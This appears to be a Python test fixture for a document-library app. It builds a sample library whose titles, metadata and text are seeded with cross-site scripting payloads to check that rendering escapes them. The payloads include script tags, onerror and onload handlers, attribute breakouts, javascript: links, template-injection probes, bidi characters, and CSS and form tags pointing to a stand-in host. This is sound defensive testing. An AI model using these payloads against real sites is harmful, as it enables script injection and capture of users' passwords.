"""Words that would do harm where they were taken for anything but words, and a library that is full of them.

Each sets `window.__pwned` or loads from another host when it is run, which no test may see.
"""

from __future__ import annotations

import json
from pathlib import Path

ELSEWHERE = "http://elsewhere.example"

HOSTILE = {
    "script": "<script>window.__pwned=1</script>",
    "end of a script": '</script><script>window.__pwned=1</script>"}',
    "handler": '<img src="x" onerror="window.__pwned=1">',
    "out of an attribute": '" autofocus onfocus="window.__pwned=1" x=\'',
    "out of the other quotes": "' autofocus onfocus='window.__pwned=1' x=",
    "drawing": "<svg onload=window.__pwned=1><animate onbegin=window.__pwned=1>",
    "frame": "<iframe srcdoc='&lt;script&gt;parent.__pwned=1&lt;/script&gt;'></iframe>",
    "picture": f"![x]({ELSEWHERE}/x.png) <img src={ELSEWHERE}/y.png>",
    "link": "[press](javascript:window.__pwned=1) <a href=javascript:window.__pwned=1>press</a>",
    "style": f"<style>@import '{ELSEWHERE}/x.css'; body {{ display: none }}</style><p style=position:fixed;inset:0>",
    "form": f"<form action={ELSEWHERE}><input name=password></form><base href={ELSEWHERE}/>",
    "templates": "{{ 7 * 7 }} ${7 * 7} {% raw %} #{7 * 7} %s %(x)s \\u003cscript\\u003e",
    "other direction": "‮evil‬ ⁦words⁩ ​ \ufeff end",
    "entities": "&lt;script&gt;window.__pwned=1&lt;/script&gt; &#60;b&#62; &amp;amp;",
}
"""By what they try, in words."""

CONTROL = "before\x07\x1b[31m\x7f\u0085\u2028\u2029after"
"""Characters that print nothing; a document may hold them, while one with others is refused as binary."""

LONG = "very" * 25_000
"""A line of 100,000 characters without a blank."""

FILE = "plan <img src=x onerror='window.__pwned=1'> & \"more\".txt"
KEY = "hostile-plan"
TITLE = f"The plan {HOSTILE['handler']} of {HOSTILE['script']} 2024-25"
SHORT = f"2024-25 plan {HOSTILE['out of an attribute']}"
HEADING = f"Playing {HOSTILE['drawing']} {HOSTILE['end of a script']}"

SUBJECTS = """
    wooden blocks, safe paints, clay whistles, paper kites, tin soldiers, glass marbles, rag dolls, toy drums,
    spinning tops, rocking horses, building bricks, jigsaw puzzles, model trains, skipping ropes
"""
"""One for each of `HOSTILE`, in order; the question of it is answered with a sentence that holds the words."""
ABOUT = dict(zip(HOSTILE, map(str.strip, SUBJECTS.split(",")), strict=True))


def question(kind: str) -> str:
    """What is asked to be told a sentence with the words of a kind."""
    return f"How many {ABOUT[kind]} should every nursery have?"


def sentence(kind: str, number: int) -> str:
    """A sentence of the plan with the words of a kind."""
    return f"Every nursery should have at least {number} {ABOUT[kind]} {printed(HOSTILE[kind])} by March 2025."


def hostile_library(folder: Path) -> Path:
    """A folder of one document with hostile words wherever a document has words; gives the folder back."""
    folder.mkdir(parents=True)
    facts = {
        "key": KEY,
        "title": TITLE,
        "short_title": SHORT,
        "publisher": f"Toy Office {HOSTILE['handler']}",
        "published": "2024-03-28",
        "period_start": "2024-04-01",
        "period_end": "2025-03-31",
        "status": f"final {HOSTILE['script']}",
        "licence": HOSTILE["link"],
        "source": f"javascript:window.__pwned=1 {HOSTILE['handler']}",
        "replaces": f"a plan {HOSTILE['picture']}",
        "path": FILE,
    }
    lines = "\n".join(f"{name} = {json.dumps(value)}" for name, value in facts.items())
    (folder / "library.toml").write_text(f"[[document]]\n{lines}\n", "utf-8")
    told = [f"1.{n} {sentence(kind, 30 + n)}" for n, kind in enumerate(HOSTILE, start=1)]
    bullets = "\n".join(f"- {printed(words)}" for words in HOSTILE.values())
    text = [printed(TITLE), f"1. {printed(HEADING)}", *told, f"1.99 The Toy Office will:\n\n{bullets}", "2. Money"]
    text += [f"2.1 The budget for 2024-25 is £3.5 million {CONTROL}.", f"2.2 The longest word is {LONG}."]
    (folder / FILE).write_text("\n\n".join(text) + "\n", "utf-8")
    return folder


def printed(words: str) -> str:
    """`words` as a text file must print them so that its reader finds them, who drops markup."""
    return "".join(f"&#{ord(letter)};" if letter in "<>&![](){}*_`" else letter for letter in words)
